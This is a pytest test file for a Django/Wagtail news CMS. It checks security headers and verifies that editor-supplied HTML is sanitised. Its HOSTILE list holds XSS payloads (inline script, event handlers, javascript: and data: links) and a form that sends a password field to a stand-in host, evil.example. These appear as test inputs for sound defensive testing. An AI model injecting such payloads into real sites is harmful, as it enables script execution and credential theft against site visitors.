"""What browsers are told that pages may do, and that editors' texts can do nothing."""

import json

import pytest
from bs4 import BeautifulSoup
from django.test import Client

from cms.core.blocks import BodyBlock, TableBlock, TextBlock
from cms.news.models import ArticlePage

pytestmark = pytest.mark.django_db


def policy(response) -> dict[str, list[str]]:
    parts = (part.split() for part in response["Content-Security-Policy"].split(";"))
    return {name: values for name, *values in parts}


@pytest.fixture
def pages(section, make_article, make_event, make_school, make_person, make_official_document) -> list[str]:
    made = (section, make_article(), make_event(), make_school(), make_person(), make_official_document())
    listed = [page.get_parent() for page in made]
    return [*sorted({page.url for page in (*made, *listed)}), "/search/?q=a", "/khong-co/", "/en/"]


def test_no_page_may_run_or_style_anything_but_our_own_files(pages):
    for address in pages:
        told = policy(Client().get(address))
        assert told["script-src"] == told["style-src"] == ["'self'"], address
        assert told["default-src"] == told["frame-ancestors"] == ["'self'"]
        assert told["object-src"] == ["'none'"]
        assert "'unsafe-inline'" not in str(told)


def test_no_page_has_inline_code_or_styles_or_sets_a_cookie(pages):
    for address in pages:
        response = Client().get(address)
        assert not response.cookies, address
        page = BeautifulSoup(response.content, "html.parser")
        scripts = [tag for tag in page.select("script:not([src])") if tag.get("type") != "application/ld+json"]
        assert not scripts and not page.select("style, [style]"), address
        assert not [name for tag in page.find_all(True) for name in tag.attrs if name.startswith("on")], address


def test_every_answer_says_what_it_is_and_what_it_needs(pages):
    for address in (*pages, "/admin/login/", "/api/v1/search/"):
        response = Client().get(address)
        assert response["X-Content-Type-Options"] == "nosniff"
        assert response["Referrer-Policy"] == "same-origin"
        assert response["X-Frame-Options"] == "SAMEORIGIN"
        assert "geolocation=()" in response["Permissions-Policy"]
        assert response["Cross-Origin-Opener-Policy"] == "same-origin"


def test_a_kept_page_has_the_same_headers(section, settings):
    settings.PAGES_KEPT_FOR = 600
    first, again = (Client().get(section.url).headers for _ in range(2))
    assert dict(first) == dict(again)
    assert "Content-Security-Policy" in again


def test_only_the_admin_may_have_scripts_of_wagtails_own(admin_client, section):
    told = policy(admin_client.get(f"/admin/pages/{section.pk}/edit/"))
    assert told["script-src"] == ["'self'", "'unsafe-inline'"]
    assert policy(admin_client.get(section.url))["script-src"] == ["'self'"]


def test_the_app_that_shows_drafts_may_be_framed_by_the_editor(admin_client, settings):
    settings.PREVIEW_URL = "https://app.example.vn/xem-truoc"
    assert "https://app.example.vn" in policy(admin_client.get("/admin/"))["frame-src"]


HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<p onclick="alert(1)">a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    '<iframe src="https://evil.example/"></iframe>',
    "<svg onload=alert(1)></svg>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed">a</p>',
    '<embed embedtype="media" url="javascript:alert(1)"/>',
    '<form action="https://evil.example/"><input name="password"></form>',
)


def harmless(html: str) -> None:
    page = BeautifulSoup(html, "html.parser")
    assert not page.select("iframe, svg, style, object, embed, form[action^=http], [style]"), html
    assert not page.select("script:not([src]):not([type='application/ld+json'])"), html
    for tag in page.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on")], tag
        for name in ("href", "src"):
            assert not str(tag.get(name, "")).lower().strip().startswith(("javascript:", "data:", "vbscript:")), tag


@pytest.mark.parametrize("html", HOSTILE)
def test_what_an_editor_pastes_into_a_text_runs_nothing(make_article, html):
    """As the editor's form gives it: whatever the browser sends, it goes through the converter."""
    block = TextBlock()
    block.set_name("text")
    state = {
        "blocks": [
            {"key": "a", "text": html, "type": "unstyled", "depth": 0, "inlineStyleRanges": [], "entityRanges": []}
        ],
        "entityMap": {},
    }
    value = block.value_from_datadict({"text": json.dumps(state)}, {}, "text")
    article = make_article(body=[("text", value)])
    harmless(Client().get(article.url).content.decode())


@pytest.mark.parametrize("address", ["javascript:alert(1)", "JaVaScript:alert(1)", "data:text/html,x", "vbscript:x"])
def test_a_link_in_a_text_leads_to_no_code(make_article, address):
    block = TextBlock()
    block.set_name("text")
    entity = {"offset": 0, "length": 1, "key": 0}
    state = {
        "blocks": [
            {"key": "a", "text": "a", "type": "unstyled", "depth": 0, "inlineStyleRanges": [], "entityRanges": [entity]}
        ],
        "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": address}}},
    }
    value = block.value_from_datadict({"text": json.dumps(state)}, {}, "text")
    harmless(Client().get(make_article(body=[("text", value)]).url).content.decode())


@pytest.mark.parametrize("html", HOSTILE)
def test_every_other_field_of_a_page_is_text(make_article, make_image, html):
    picture = {"image": make_image(title=html, description=html), "alt_text": html, "caption": html, "credit": html}
    table = TableBlock().to_python({"data": [[html, "b"]], "first_row_is_table_header": True, "table_caption": html})
    article = make_article(
        title=html,
        summary=html,
        source=html,
        authors=[(html, html)],
        tags=[html[:100]],
        cover=picture["image"],
        body=[
            ("heading", {"text": html, "level": "2"}),
            ("quote", {"text": html, "who": html}),
            ("picture", picture),
            ("gallery", {"pictures": [picture]}),
            ("table", table),
            ("highlight", {"title": html, "text": ""}),
        ],
    )
    harmless(Client().get(article.url).content.decode())
    harmless(Client().get(article.get_parent().url).content.decode())


def test_there_is_no_block_for_raw_html():
    assert set(BodyBlock().child_blocks) == {
        *("text", "heading", "picture", "gallery", "quote", "table", "files", "video", "highlight")
    }
    assert "embed" not in TextBlock().features
    assert ArticlePage._meta.get_field("body").stream_block.child_blocks.keys() == BodyBlock().child_blocks.keys()
